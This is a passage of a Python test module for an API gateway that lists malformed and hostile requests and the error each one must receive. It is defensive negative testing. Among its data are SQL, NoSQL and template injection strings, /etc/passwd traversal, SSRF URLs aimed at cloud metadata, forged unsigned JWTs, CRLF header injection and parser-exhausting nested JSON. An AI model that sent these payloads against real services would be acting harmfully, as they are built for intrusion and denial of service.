"""Requests that no client should send, each with the answer that it must get.

Most are made from the routes themselves, so that a new route is tried with what breaks others: every body, query, id,
method and credential that is none. `./dev chaos` sends the same.
"""

import re
from collections.abc import Iterator, Mapping, Sequence
from http import HTTPStatus
from typing import Annotated, Any, get_args, get_origin, get_type_hints

import httpx
import msgspec
from litestar.routes import HTTPRoute
from msgspec import Meta, Struct

from gateway import settings
from gateway.access import LITESTARS_OWN, Access, access_of
from gateway.app import create_routes
from gateway.chat import free_json
from gateway.chat.schemas import ChatRequest, Options
from gateway.conversations.schemas import Renaming
from gateway.draining import Draining
from gateway.error_dialects import OLLAMA, OPENAI, OllamaErrorBody, dialect_of
from gateway.metrics.declared import Metrics
from gateway.operation import Operation
from gateway.schema import describe_routes
from gateway.security_headers import SECURITY_HEADERS
from shared.ids import new_id
from tests.hostile_completions import CHAT, OLLAMA_GENERATE, hostile_bodies
from tests.images import in_base64, png

CANARY = "canary"  # stands in what is sent, and must not come back

Headers = Sequence[tuple[str, str | bytes]]
Json = dict[str, Any]

_JSON: Headers = (("Content-Type", "application/json"),)
_HARMLESS_ID = re.compile(r"[A-Za-z0-9._-]{1,128}")


class HostileRequest(Struct, frozen=True):
    """What is sent, and what must come back."""

    name: str
    method: str
    path: str
    status: int
    code: str
    body: bytes = b""
    headers: Headers = ()
    param: str | None = None  # None: whatever
    is_anonymous: bool = False

    async def send(self, http: httpx.AsyncClient, token: str) -> list[str]:
        """Send it as somebody, and return what is wrong with the answer."""
        own = () if self.is_anonymous else (("Authorization", f"Bearer {token}"),)
        headers = [
            (name.encode(), value.encode() if isinstance(value, str) else value)
            for name, value in (*own, *self.headers)
        ]
        request = http.build_request(self.method, "/", content=self.body)
        kept = [(name, value) for name, value in request.headers.raw if name.lower() in (b"host", b"content-length")]
        request.headers = httpx.Headers([*(kept if b"Host" not in dict(headers) else kept[1:]), *headers])
        request.url = request.url.copy_with(raw_path=self.path.encode())
        return list(self._faults(await http.send(request)))

    def _faults(self, response: httpx.Response) -> Iterator[str]:
        if (response.status_code, response.headers.get("Content-Type")) != (self.status, "application/json"):
            yield f"{response.status_code} {response.headers} {response.text[:500]}"
            return
        request_id = response.headers.get("X-Request-Id", "")
        if not _HARMLESS_ID.fullmatch(request_id):
            yield f"the request id is {request_id}"
        yield from self._faults_of_headers(response.headers)
        if self.method == "HEAD":  # is answered without a body
            return
        error = response.json().get("error")
        if dialect_of(self.path).kind is OllamaErrorBody:
            message = error
            if (self.param or "") not in str(message):
                yield f"expected a message about {self.param}: {error}"
        elif error.keys() != {"code", "type", "message", "param", "request_id"} or error["code"] != self.code:
            yield f"expected {self.code}: {response.text[:500]}"
            return
        else:
            message = error["message"]
            if self.param is not None and error["param"] != self.param:
                yield f"expected the field {self.param}: {error}"
            if error["request_id"] != request_id:
                yield f"the request id is {request_id}: {error}"
        if not isinstance(message, str) or CANARY in message:
            yield f"no message, or what was sent comes back: {error}"

    def _faults_of_headers(self, headers: httpx.Headers) -> Iterator[str]:
        missing = {(name.decode(), value.decode()) for name, value in SECURITY_HEADERS} - headers.items()
        if missing:
            yield f"without {missing}"
        if (self.status == 401) != ("WWW-Authenticate" in headers):
            yield "WWW-Authenticate belongs to every 401 and to nothing else"
        if self.status == 405 and not headers.get("Allow"):
            yield "without Allow"


class Route(Struct, frozen=True):
    """A route of the gateway."""

    method: str
    path: str
    access: Access
    operation: Operation
    statuses: frozenset[int]  # of its documented answers

    @property
    def name(self) -> str:
        """For people."""
        return f"{self.method} {self.path}"

    def at(self, id_: str | None = None) -> str:
        """Return its path, about the thing with this id, or else with one that nothing has."""
        return re.sub(r"\{[^}]*\}", lambda _: id_ or new_id(), self.path)


def routes() -> list[Route]:
    """Return every route, without Litestar's own for OPTIONS."""
    own = settings.read({"JWT_SECRET": "0" * 32})
    app = create_routes(own, Metrics(), Draining())
    documented = describe_routes(app, own)["paths"]
    return [
        Route(
            method=method,
            path=route.path_format,
            access=access_of(handler),
            operation=handler.opt.get("operation", Operation()),
            statuses=frozenset(map(int, documented[route.path_format].get(method.lower(), {}).get("responses", ()))),
        )
        for route in sorted(app.routes, key=lambda route: route.path_format)
        if isinstance(route, HTTPRoute)
        for method, (handler, _) in sorted(route.route_handler_map.items())
        if handler.handler_name != LITESTARS_OWN
    ]


def hostile_requests(model: str) -> list[HostileRequest]:
    """Return all of them; `model` is one that there is."""
    every = routes()
    below_v1 = [route for route in every if route.path.startswith("/v1/")]
    surfaces = [route for route in every if route.path.startswith(("/v1/", f"{OPENAI}/", f"{OLLAMA}/"))]
    return [
        *_with_bodies(route for route in surfaces if route.operation.body),
        *_with_fields(route for route in surfaces if route.operation.body not in (None, ChatRequest)),
        *_with_queries(below_v1),
        *_with_ids(route for route in below_v1 if "_id}" in route.path),
        *_with_methods(every),
        *_with_pages(below_v1),
        *_without_credentials(route for route in surfaces if route.access is not Access.PUBLIC),
        *_models_by_name(),
        *_completions(model),
        *_chats(model),
        *_options(model),
        *_headers_of_chats(model),
        *_accounts(),
        *_api_keys(),
        *_paths(),
    ]


NO_JSON: Mapping[str, bytes] = {
    "nothing": b"",
    "spaces": b" " * 1000,
    "a NUL": b"\x00",
    "a word": b"canary",
    "half of an object": b'{"model": "',
    "two objects": b"{}{}",
    "something after its end": b"{} canary",
    "single quotes": b"{'model': 'x'}",
    "a comma too many": b'{"model": "x",}',
    "a comment": b"{/* canary */}",
    "a name without quotes": b'{model: "x"}',
    "NaN": b'{"number": NaN}',
    "Infinity": b'{"number": -Infinity}',
    "a hexadecimal number": b'{"number": 0x10}',
    "a number that begins with zero": b'{"number": 010}',
    "a plus": b'{"number": +1}',
    "True": b'{"truth": True}',
    "a bare control character": b'{"model": "a\nb"}',
    "an escape that is none": rb'{"model": "\x41"}',
    "no UTF-8": b'{"model": "\xff\xfe"}',
    "no UTF-8 in a name": b'{"\xff": 1}',
    "an overlong slash": b'{"model": "\xc0\xaf"}',
    "half of a surrogate pair in UTF-8": b'{"model": "\xed\xa0\x80"}',
    "UTF-16": '{"model": "x"}'.encode("utf-16"),
    "UTF-32": '{"model": "x"}'.encode("utf-32"),
    "a byte order mark": b'\xef\xbb\xbf{"model": "x"}',
    "lists in lists": b"[" * 100_000,
    "objects in objects": b'{"a":' * 50_000,
    "closed lists in lists": b"[" * 100_000 + b"]" * 100_000,
    "lists in an unknown field": b'{"canary":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
}
"""None of these is JSON in UTF-8 that nests bearably."""

NO_VALUE: Mapping[str, bytes] = {
    "null": b"null",
    "a number": b"1",
    "a number beyond any": b"1e999",
    "a string": b'"canary"',
    "an empty list": b"[]",
    "a list of objects": b"[{}]",
    "an unknown field": b'{"__proto__": {"admin": true}}',
    "a name twice": b'{"canary": 1, "canary": 1}',
    "a name twice, once as an escape": rb'{"canary": 1, "c\u0061nary": 1}',
    "an escaped NUL": rb'{"canary": "\u0000"}',
    "an escaped NUL in a name": rb'{"\u0000": 1}',
    "the upper half of a surrogate pair": rb'{"canary": "\ud83d"}',
    "the lower half of a surrogate pair": rb'{"canary": "\ude00"}',
    "half of a surrogate pair in a name": rb'{"\ud83d": 1}',
    "halves in the wrong order": rb'{"canary": "\ude00\ud83d"}',
    "a number of 10,000 digits": b'{"canary": ' + b"9" * 10_000 + b"}",
    "200,000 empty lists": b'{"canary": [' + b"[]," * 200_000 + b"[]]}",
}
"""All of these are JSON, and none is what a route takes."""

NO_MEDIA_TYPE: Mapping[str, Headers] = {
    "no content type": (),
    "text": (("Content-Type", "text/plain"),),
    "a form": (("Content-Type", "application/x-www-form-urlencoded"),),
    "files": (("Content-Type", "multipart/form-data; boundary=x"),),
    "a patch": (("Content-Type", "application/merge-patch+json"),),
    "another character set": (("Content-Type", "application/json; charset=latin-1"),),
    "a parameter more": (("Content-Type", "application/json; charset=utf-8; canary=1"),),
    "a list of types": (("Content-Type", "application/json, text/plain"),),
    "two content types": (*_JSON, ("Content-Type", "text/plain")),
    "the same content type twice": (*_JSON, *_JSON),
    "something plain and compressed": (*_JSON, ("Content-Encoding", "identity"), ("Content-Encoding", "gzip")),
    "something compressed": (*_JSON, ("Content-Encoding", "gzip")),
    "something compressed twice": (*_JSON, ("Content-Encoding", "br, gzip")),
}


_READ_WITH_CARE = ("/v1/chat", "/v1/auth/login")  # by the same code as all others, so these get every one of them
_EVERY_OTHER = 4


def _with_bodies(routes: Iterator[Route]) -> Iterator[HostileRequest]:
    for route in routes:
        step = 1 if route.path in _READ_WITH_CARE else _EVERY_OTHER
        for name, body in [*NO_JSON.items()][::step]:
            yield HostileRequest(f"{route.name}: {name}", route.method, route.at(), 400, "malformed_body", body, _JSON)
        for name, body in [*NO_VALUE.items()][::step]:
            yield _invalid(f"{route.name}: {name}", route, body)
        for name, headers in [*NO_MEDIA_TYPE.items()][::step]:
            if _takes_any_media_type(route) and not any(header == "Content-Encoding" for header, _ in headers):
                yield _invalid(f"{route.name}: {name}", route, b"{}", headers)
            else:
                yield HostileRequest(
                    f"{route.name}: {name}", route.method, route.at(), 415, "unsupported_media_type", b"{}", headers
                )


def _takes_any_media_type(route: Route) -> bool:
    return route.path.startswith(f"{OLLAMA}/")


def _invalid(name: str, route: Route, body: bytes, headers: Headers = _JSON) -> HostileRequest:
    status = dialect_of(route.path).status(HTTPStatus.UNPROCESSABLE_ENTITY)
    return HostileRequest(name, route.method, route.at(), status, "invalid_request", body, headers)


VALUES: Mapping[str, object] = {
    "null": None,
    "a yes": True,
    "a number": 7,
    "a negative number": -1,
    "a fraction": 1.5,
    "a number beyond any": 10**30,
    "no text": "",
    "a line end": "a\nb",
    "a line end behind it": "ada@example.org\n",
    "a terminal's escape": "\x1b[2J",
    "a paragraph separator": "a\u2029b",
    "text of 10,000 characters": "x" * 10_000,
    "a list": [],
    "a list of numbers": [7],
    "a list of lists": [[]],
    "100,000 texts": ["x"] * 100_000,
    "an object": {},
    "a condition": {"$ne": None},
}
ONE_LINERS = ("name", "title")  # what people call things, and see in lists


def _with_fields(routes: Iterator[Route]) -> Iterator[HostileRequest]:
    """Give each field of each body every value that its type refuses, and names what must not stand in any list."""
    for route in routes:
        assert route.operation.body is not None
        for field in msgspec.structs.fields(route.operation.body):
            for name, value in VALUES.items():
                must = field.name in ONE_LINERS and isinstance(value, str)
                if must or _is_refused(value, field.type):
                    body = _encode({field.encode_name: value})
                    yield _invalid(f"{route.name}: {name} as {field.encode_name}", route, body)


def _is_refused(value: object, kind: Any) -> bool:  # noqa: ANN401  a type
    try:
        msgspec.convert(value, kind)
    except msgspec.ValidationError:
        return True
    return False


LIMITS = ("0", "101", "-1", "+1", "1.5", "1e1", "0x10", "9" * 400, "", "%20", "%D9%A3", "1,2", "all")
CURSORS = ("canary", "*", "", "%20", "..%2f", "' OR 1=1--", "00000000-0000-0000-0000-00000000000", "x" * 5_000)


def _with_pages(routes: Sequence[Route]) -> Iterator[HostileRequest]:
    for route in routes:
        for parameter in route.operation.parameters:
            for value in {"limit": LIMITS, "cursor": CURSORS}.get(parameter.name, ()):
                yield HostileRequest(
                    f"{route.name}?: {parameter.name}={value[:40]}",
                    route.method,
                    f"{route.at()}?{parameter.name}={value.replace(' ', '+')}",
                    422,
                    "invalid_request",
                    param=parameter.name,
                )
    for query, param in {
        "from=canary": "from",
        "from=2026-13-01": "from",
        "from=9999999999-01-01": "from",
        "to=0000-01-01": "to",
        "to=2026-01-01T25:00:00Z": "to",
        "group_by=canary": "group_by",
        "group_by=": "group_by",
        "group_by=day,day": "group_by",
    }.items():
        yield HostileRequest(f"GET /v1/usage?{query}", "GET", f"/v1/usage?{query}", 422, "invalid_request", param=param)


QUERIES: Mapping[str, tuple[str, str | None]] = {
    "an unknown parameter": ("canary=1", "canary"),
    "a parameter of nobody": ("__proto__[admin]=true", "__proto__[admin]"),
    "half an escape": ("limit=%", None),
    "an escape that is none": ("limit=%zz", None),
    "no UTF-8": ("limit=%ff%fe", None),
    "a name without a value": ("canary", "canary"),
}


def _with_queries(routes: Sequence[Route]) -> Iterator[HostileRequest]:
    for route in routes:
        for name, (query, param) in QUERIES.items():
            path = f"{route.at()}?{query}"
            yield HostileRequest(
                f"{route.name}?: {name}", route.method, path, 422, "invalid_request", b"{}", _JSON, param
            )
        for parameter in route.operation.parameters:
            if parameter.place == "query":
                for name, query in {
                    "twice": f"{parameter.name}=1&{parameter.name}=1",
                    "with NUL": f"{parameter.name}=%00",
                    "with a line end": f"{parameter.name}=1%0d%0aX:%20y",
                }.items():
                    yield HostileRequest(
                        f"{route.name}?: {parameter.name} {name}",
                        route.method,
                        f"{route.at()}?{query}",
                        422,
                        "invalid_request",
                        b"{}",
                        _JSON,
                        parameter.name,
                    )


IDS: Mapping[str, str] = {
    "a word": "canary",
    "an id that nothing has": "01a215a7-de09-76ac-ab6e-38cf47ce6d47",
    "an id of another version": "00000000-0000-4000-8000-000000000000",
    "an id in capitals": "01A215A7-DE09-76AC-AB6E-38CF47CE6D47",
    "an id without hyphens": "01a215a7de0976acab6e38cf47ce6d47",
    "an id in braces": "{01a215a7-de09-76ac-ab6e-38cf47ce6d47}",
    "an id with one digit more": "01a215a7-de09-76ac-ab6e-38cf47ce6d471",
    "NUL": "%00",
    "a newline": "01a215a7-de09-76ac-ab6e-38cf47ce6d47%0a",
    "no UTF-8": "%ff%fe",
    "a path": "..%2f..%2fetc%2fpasswd",
    "a wildcard": "*",
    "a key of ours": "ds:job:*",
    "an injection": "'%20OR%201=1--",
    "5,000 characters": "x" * 5_000,
    "emoji": "%F0%9F%98%80",
    "digits that are no ASCII": "%D9%A0" * 8,
    "half an escape": "%",
    "a template": "{{7*7}}",
    "a minus": "-1",
}
NO_PATHS = ("a word", "a path")  # the first comes back in the message; the second leads elsewhere
GOOD_BODIES: Mapping[type[Struct], Json] = {Renaming: {"title": "x"}}
"""Of routes that take an id and a body."""


def _with_ids(routes: Iterator[Route]) -> Iterator[HostileRequest]:
    for route in routes:
        body = route.operation.body
        sent = b"" if body is None else _encode(GOOD_BODIES[body])  # bodies are looked at first
        for name, id_ in IDS.items():
            yield HostileRequest(f"{route.name} of {name}", route.method, route.at(id_), 404, "not_found", sent, _JSON)


def _models_by_name() -> Iterator[HostileRequest]:
    for name, model in IDS.items():
        if name not in NO_PATHS:
            for path in ("/v1/models", "/openai/v1/models"):
                yield HostileRequest(f"GET {path} of {name}", "GET", f"{path}/{model}", 404, "model_not_found")


def _completions(model: str) -> Iterator[HostileRequest]:
    for each in hostile_bodies(model):
        yield HostileRequest(each.name, "POST", each.path, 400, each.code, _encode(each.body), _JSON, each.param)
    bad_keys: Mapping[str, Headers] = {
        "an empty key": (("Idempotency-Key", ""),),
        "a key of 256 characters": (("Idempotency-Key", "x" * 256),),
        "two keys": (("Idempotency-Key", "a"), ("Idempotency-Key", "b")),
    }
    bodies = {CHAT: {"messages": [{"role": "user", "content": "x"}]}, OLLAMA_GENERATE: {"prompt": "x"}}
    for path, question in bodies.items():
        for name, headers in bad_keys.items():
            body, param = _encode({"model": model, **question}), headers[0][0]
            yield HostileRequest(
                f"{name} for {path}", "POST", path, 400, "invalid_request", body, (*_JSON, *headers), param
            )


def _with_methods(routes: Sequence[Route]) -> Iterator[HostileRequest]:
    taken: dict[str, set[str]] = {}
    for route in routes:
        taken.setdefault(route.path, set()).add(route.method)
    for path, methods in taken.items():
        for method in sorted({"GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "PROPFIND"} - methods):
            yield HostileRequest(
                f"{method} for {path}", method, re.sub(r"\{[^}]*\}", new_id(), path), 405, "method_not_allowed"
            )
        if "GET" not in methods:
            yield HostileRequest(
                f"another method in a header for {path}",
                "GET",
                re.sub(r"\{[^}]*\}", new_id(), path),
                405,
                "method_not_allowed",
                headers=(("X-HTTP-Method-Override", "POST"),),
            )


STRANGERS: Mapping[str, Headers] = {
    "no token": (),
    "a scheme without a token": (("Authorization", "Bearer"),),
    "another scheme": (("Authorization", "Basic YWRhOmFkYQ=="),),
    "a token without a scheme": (("Authorization", "eyJhbGciOiJIUzI1NiJ9.e30.x"),),
    "an empty header": (("Authorization", ""),),
    "two headers": (("Authorization", "Bearer x"), ("Authorization", "Bearer x")),
    "a token that is none": (("Authorization", "Bearer canary"),),
    "two tokens": (("Authorization", "Bearer x, Bearer y"),),
    "a token with NUL's escape": (("Authorization", "Bearer %00"),),
    "a token that is no ASCII": (("Authorization", "Bearer té".encode()),),
    "a token of no algorithm": (("Authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."),),
    "a token of another algorithm": (("Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIn0.eA"),),
    "a token whose key is a path": (("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uL2V0YyJ9.e30.eA"),),
    "a token of dots": (("Authorization", "Bearer " + "." * 3_000),),
    "a long token": (("Authorization", "Bearer " + "x" * 30_000),),
    "an API key that nobody has": (("Authorization", "Bearer sk-ds-0000000000000000"),),
    "an API key that is a wildcard": (("Authorization", "Bearer sk-ds-*"),),
    "a token in a cookie": (("Cookie", "Authorization=Bearer x; session=x"),),
    "a token in another header": (("X-API-Key", "sk-ds-0000000000000000"),),
    "a host that is trusted elsewhere": (("Host", "localhost"), ("X-Forwarded-For", "127.0.0.1")),
}
_EVERYWHERE = ("no token", "a token that is none", "an API key that nobody has")


def _without_credentials(routes: Iterator[Route]) -> Iterator[HostileRequest]:
    for route in routes:
        if route.access is Access.OPERATOR:
            continue
        for name, headers in STRANGERS.items():
            if name in _EVERYWHERE or route.path == "/v1/auth/me":
                yield HostileRequest(
                    f"{route.name} by {name}",
                    route.method,
                    route.at(),
                    401,
                    "unauthenticated",
                    b"canary",
                    headers,
                    is_anonymous=True,
                )


def _chats(model: str) -> Iterator[HostileRequest]:
    user: Json = {"role": "user", "content": CANARY}
    chat: Json = {"model": model, "messages": [user]}
    image = in_base64(png())
    call: Json = {"function": {"name": "f", "arguments": {}}}
    deep: Any = {}
    for _ in range(free_json.MAX_DEPTH):
        deep = {"a": deep}
    large = {"a": "x" * free_json.MAX_BYTES}

    def message(**fields: object) -> Json:
        return chat | {"messages": [user | fields]}

    wrong: dict[str, tuple[Json, str]] = {
        "no model": ({"messages": [user]}, "model"),
        "no model but null": (chat | {"model": None}, "model"),
        "an empty model": (chat | {"model": ""}, "model"),
        "a model of another type": (chat | {"model": 7}, "model"),
        "a model that is a path": (chat | {"model": "../../etc/passwd"}, "model"),
        "a model that is an option": (chat | {"model": "--help"}, "model"),
        "a model with a newline": (chat | {"model": f"{model}\n"}, "model"),
        "a model with a space": (chat | {"model": f"{model} "}, "model"),
        "a model with an escape": (chat | {"model": "%2e%2e"}, "model"),
        "a model that is no ASCII": (chat | {"model": "àdà"}, "model"),
        "a model of 257 characters": (chat | {"model": "x" * 257}, "model"),
        "a model that is a wildcard": (chat | {"model": "*"}, "model"),
        "no messages": ({"model": model}, "messages"),
        "an empty list of messages": (chat | {"messages": []}, "messages"),
        "messages of another type": (chat | {"messages": CANARY}, "messages"),
        "4,097 messages": (chat | {"messages": [user] * 4097}, "messages"),
        "a message that is text": (chat | {"messages": [CANARY]}, "messages[0]"),
        "an unknown role": (message(role="root"), "messages[0].role"),
        "a role of OpenAI's": (message(role="developer"), "messages[0].role"),
        "a role in capitals": (message(role="User"), "messages[0].role"),
        "a message without content": (chat | {"messages": [{"role": "user"}]}, "messages[0].content"),
        "content of another type": (message(content=1), "messages[0].content"),
        "content in parts": (message(content=[{"type": "text", "text": "x"}]), "messages[0].content"),
        "content that is nothing": (message(content=None), "messages[0].content"),
        "content of more than 8 MiB": (message(content="x" * (8 * 1024 * 1024 + 1)), "messages[0].content"),
        "an unknown field of a message": (message(name="x"), "messages[0].name"),
        "an unknown field": (chat | {"temprature": 1}, "temprature"),
        "a field of Ollama's that is ours to set": (chat | {"stream": False}, "stream"),
        "an image that is no base64": (message(images=[CANARY]), "messages[0].images[0]"),
        "an image that is nothing": (message(images=[""]), "messages[0].images[0]"),
        "an image that is a number": (message(images=[1]), "messages[0].images[0]"),
        "an image at an address": (message(images=["http://169.254.169.254/"]), "messages[0].images[0]"),
        "an image in a file": (message(images=["file:///etc/passwd"]), "messages[0].images[0]"),
        "an image as a data URL": (message(images=[f"data:image/png;base64,{image}"]), "messages[0].images[0]"),
        "an image that is SVG": (message(images=[in_base64(b"<svg/>" * 9)]), "messages[0].images[0]"),
        "an image of many pixels": (message(images=[image, in_base64(png(30_000, 30_000))]), "messages[0].images[1]"),
        "33 images": (message(images=[image] * 33), "messages[0].images"),
        "images of another type": (message(images=image), "messages[0].images"),
        "a call of a tool without a function": (message(tool_calls=[{}]), "messages[0].tool_calls[0].function"),
        "a call of a tool with arguments as text": (
            message(tool_calls=[{"function": {"name": "f", "arguments": "{}"}}]),
            "messages[0].tool_calls[0].function.arguments",
        ),
        "a call of a tool with deep arguments": (
            message(tool_calls=[{"function": {"name": "f", "arguments": {"a": deep}}}]),
            "messages[0].tool_calls[0].function.arguments",
        ),
        "a call of a tool without a name": (
            message(tool_calls=[{"function": {"name": "", "arguments": {}}}]),
            "messages[0].tool_calls[0].function.name",
        ),
        "a call of a tool at a negative place": (
            message(tool_calls=[{"function": {"name": "f", "arguments": {}, "index": -1}}]),
            "messages[0].tool_calls[0].function.index",
        ),
        "129 calls of tools": (message(tool_calls=[call] * 129), "messages[0].tool_calls"),
        "a tool's name of 257 characters": (message(tool_name="x" * 257), "messages[0].tool_name"),
        "a format that nobody knows": (chat | {"format": "xml"}, "format"),
        "a format that is a list": (chat | {"format": []}, "format"),
        "a format with too many levels": (chat | {"format": {"a": deep}}, "format"),
        "a format that is too large": (chat | {"format": large}, "format"),
        "tools of another type": (chat | {"tools": {"type": "function"}}, "tools"),
        "a tool of another type": (chat | {"tools": ["function"]}, "tools[0]"),
        "513 tools": (chat | {"tools": [{}] * 513}, "tools"),
        "a tool with too many levels": (chat | {"tools": [deep]}, "tools"),
        "tools that are too large": (chat | {"tools": [large]}, "tools"),
        "a way to think that nobody knows": (chat | {"think": "hardest"}, "think"),
        "a number for whether to think": (chat | {"think": 1}, "think"),
        "a time to keep alive without a unit": (chat | {"keep_alive": "5"}, "keep_alive"),
        "a time to keep alive in words": (chat | {"keep_alive": "for ever"}, "keep_alive"),
        "a time to keep alive of no length": (chat | {"keep_alive": ""}, "keep_alive"),
        "a time to keep alive beyond any": (chat | {"keep_alive": 1e300}, "keep_alive"),
        "a time to keep alive of a megabyte": (chat | {"keep_alive": "9" * 1_000_000}, "keep_alive"),
        "no time at all": (chat | {"timeout_ms": 0}, "timeout_ms"),
        "negative time": (chat | {"queue_timeout_ms": -1}, "queue_timeout_ms"),
        "more time than a day": (chat | {"timeout_ms": 86_400_001}, "timeout_ms"),
        "more time than the operator allows": (chat | {"timeout_ms": 86_400_000}, "timeout_ms"),
        "time beyond any number": (chat | {"timeout_ms": 10**30}, "timeout_ms"),
        "a yes for a time": (chat | {"timeout_ms": True}, "timeout_ms"),
        "text for a time": (chat | {"timeout_ms": "1000"}, "timeout_ms"),
        "a fraction of a time": (chat | {"queue_timeout_ms": 1.5}, "queue_timeout_ms"),
    }
    for path in ("/v1/chat", "/v1/chat/stream"):
        for name, (body, param) in wrong.items():
            yield _post(f"{name} for POST {path}", path, body, param)
    yield HostileRequest(
        "a model that nobody has", "POST", "/v1/chat", 404, "model_not_found", _encode(chat | {"model": "x"}), _JSON
    )


def _options(model: str) -> Iterator[HostileRequest]:
    def with_options(name: str, options: Json, param: str) -> HostileRequest:
        body = {"model": model, "messages": [{"role": "user", "content": "x"}], "options": options}
        return _post(name, "/v1/chat", body, param)

    for field, annotation in get_type_hints(Options, include_extras=True).items():
        param = f"options.{field}"
        yield with_options(f"{param} as text", {field: "1"}, param)
        yield with_options(f"{param} as a yes", {field: True}, param)
        yield with_options(f"{param} as an object", {field: {}}, param)
        for side, value in _beyond(annotation).items():
            yield with_options(f"{param} {side} its range", {field: value}, param)
    yield with_options("options.stop with 17 texts", {"stop": ["x"] * 17}, "options.stop")
    yield with_options("options.stop with a long text", {"stop": ["x" * 1025]}, "options.stop[0]")
    yield with_options("options.stop with NUL", {"stop": [1]}, "options.stop[0]")
    yield with_options("options.top_k as a fraction", {"top_k": 1.5}, "options.top_k")
    for field in (
        *("num_gpu", "main_gpu", "num_thread", "num_batch", "use_mmap", "use_mlock", "numa", "low_vram", "vocab_only"),
        *("f16_kv", "logits_all", "embedding_only", "rope_frequency_base", "tfs_z", "mirostat", "temprature", ""),
    ):
        yield with_options(f"options.{field}, which is not for tenants", {field: 1}, f"options.{field}")


def _beyond(annotation: Any) -> dict[str, float]:  # noqa: ANN401  a type
    """Return a value below and one above the range of an option."""
    for part in get_args(annotation):
        if get_origin(part) is Annotated:
            (meta,) = (each for each in get_args(part) if isinstance(each, Meta))
            if meta.ge is not None and meta.le is not None:
                return {"below": meta.ge - 1, "above": meta.le + 1}
    return {}


def _headers_of_chats(model: str) -> Iterator[HostileRequest]:
    body = _encode({"model": model, "messages": [{"role": "user", "content": "x"}]})
    wrong: dict[str, tuple[Headers, str]] = {
        "an empty key": ((("Idempotency-Key", ""),), "Idempotency-Key"),
        "a key of 256 characters": ((("Idempotency-Key", "x" * 256),), "Idempotency-Key"),
        "a key that is no ASCII": ((("Idempotency-Key", "é".encode()),), "Idempotency-Key"),
        "a key with a tab": ((("Idempotency-Key", "a\tb"),), "Idempotency-Key"),
        "two keys": ((("Idempotency-Key", "a"), ("Idempotency-Key", "b")), "Idempotency-Key"),
        "an unknown wish for when I go": ((("X-On-Disconnect", "explode"),), "X-On-Disconnect"),
        "a wish in capitals": ((("X-On-Disconnect", "CONTINUE"),), "X-On-Disconnect"),
        "an empty wish": ((("X-On-Disconnect", ""),), "X-On-Disconnect"),
        "two wishes": ((("X-On-Disconnect", "cancel"), ("X-On-Disconnect", "cancel")), "X-On-Disconnect"),
    }
    for name, (headers, param) in wrong.items():
        for path in ("/v1/chat", "/v1/chat/stream"):
            yield HostileRequest(
                f"{name} for POST {path}", "POST", path, 422, "invalid_request", body, (*_JSON, *headers), param
            )
    harmless: dict[str, Headers] = {
        "an id with spaces": (("X-Request-Id", "a b"),),
        "an id that breaks lines": (("X-Request-Id", "a\tb"),),
        "an id of 5,000 characters": (("X-Request-Id", "x" * 5_000),),
        "an id that is no ASCII": (("X-Request-Id", "é".encode()),),
        "a wrong trace": (("traceparent", "00-0-0-0"),),
        "a trace of a version that cannot be": (("traceparent", f"ff-{'1' * 32}-{'1' * 16}-00"),),
        "two traces": (
            ("traceparent", f"00-{'1' * 32}-{'1' * 16}-00"),
            ("traceparent", f"00-{'2' * 32}-{'2' * 16}-00"),
        ),
        "a preference of nobody": (("Prefer", 'canary; "=,;;"'),),
        "a forged address": (("X-Forwarded-For", "'; --, ::1, 999.999.999.999"),),
        "a forged scheme": (("X-Forwarded-Proto", "javascript"),),
        "a forged host": (("X-Forwarded-Host", "evil.example.org"),),
        "another host": (("Host", "evil.example.org"),),
        "a range": (("Range", "bytes=0-1,5-2,9-"),),
        "an expectation": (("Expect", "200-maybe"),),
        "a wish for nothing": (("Accept", "application/x-nothing"),),
        "an upgrade": (("Connection", "Upgrade"), ("Upgrade", "websocket")),
        "a cookie": (("Cookie", "session=" + "x" * 5_000),),
        "an origin of nobody": (("Origin", "null"),),
    }
    unknown = _encode({"model": "nobody:has-it", "messages": [{"role": "user", "content": "x"}]})
    for name, headers in harmless.items():
        yield HostileRequest(
            f"{name} with a chat", "POST", "/v1/chat", 404, "model_not_found", unknown, (*_JSON, *headers)
        )
    yield HostileRequest(
        "two last events",
        "GET",
        f"/v1/chat/{new_id()}/stream",
        422,
        "invalid_request",
        headers=(("Last-Event-ID", "1"), ("Last-Event-ID", "2")),
        param="Last-Event-ID",
    )
    yield HostileRequest(
        "a header of 33 kB", "GET", "/v1/auth/me", 431, "headers_too_large", headers=(("Cookie", "x" * 33_000),)
    )
    yield HostileRequest(
        "100 headers more",
        "GET",
        "/v1/auth/me",
        431,
        "headers_too_large",
        headers=[(f"X-{i}", "x") for i in range(100)],
    )


def _accounts() -> Iterator[HostileRequest]:
    good: Json = {"email": "nobody@example.org", "password": "a quiet harbour at dawn"}
    wrong: dict[str, tuple[Json, str]] = {
        "no e-mail address": ({"password": good["password"]}, "email"),
        "no password": ({"email": good["email"]}, "password"),
        "an empty e-mail address": (good | {"email": ""}, "email"),
        "an e-mail address without @": (good | {"email": CANARY}, "email"),
        "an e-mail address with two @": (good | {"email": "a@b@c"}, "email"),
        "an e-mail address with a space": (good | {"email": "a b@example.org"}, "email"),
        "an e-mail address with a newline": (good | {"email": "a@example.org\n"}, "email"),
        "an e-mail address with a header": (good | {"email": "a@example.org\r\nBcc: x@y.z"}, "email"),
        "an e-mail address with a control character": (good | {"email": "a\x1b@example.org"}, "email"),
        "an e-mail address of 255 characters": (good | {"email": "a" * 243 + "@example.org"}, "email"),
        "an e-mail address in a list": (good | {"email": ["a@example.org"]}, "email"),
        "an e-mail address that is a number": (good | {"email": 1}, "email"),
        "an e-mail address that is a condition": (good | {"email": {"$ne": None}}, "email"),
        "a password that is nothing": (good | {"password": None}, "password"),
        "a password that is a yes": (good | {"password": True}, "password"),
        "an empty password": (good | {"password": ""}, "password"),
        "a password of 257 characters": (good | {"password": "x" * 257}, "password"),
        "a role of one's own": (good | {"role": "admin"}, "role"),
        "an id of one's own": (good | {"id": new_id()}, "id"),
    }
    for path in ("/v1/auth/signup", "/v1/auth/login"):
        for name, (body, param) in wrong.items():
            yield _post(f"{name} for POST {path}", path, body, param)
    for name, token in {
        "a word": CANARY,
        "dots": "." * 200,
        "an id": new_id(),
        "an API key": "sk-ds-0000000000000000",
